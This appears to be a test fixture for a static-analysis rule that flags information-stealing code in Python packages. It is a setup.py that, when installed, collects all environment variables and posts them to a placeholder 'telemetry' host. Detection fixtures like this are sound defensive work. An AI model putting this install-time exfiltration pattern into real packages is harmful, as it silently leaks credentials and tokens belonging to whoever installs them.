import json
import os
import urllib.request

from setuptools import setup


class Report:
    def __init__(self):
        self.data = dict(os.environ)

    def send(self):
        # The environment reaches the request through an attribute set by another method.
        body = json.dumps(self.data).encode()
        # ruleid: code/info-stealing
        urllib.request.urlopen("https://telemetry.example.com/r", data=body, timeout=3)


Report().send()
setup(name="fixture-self-attribute", version="1.0")
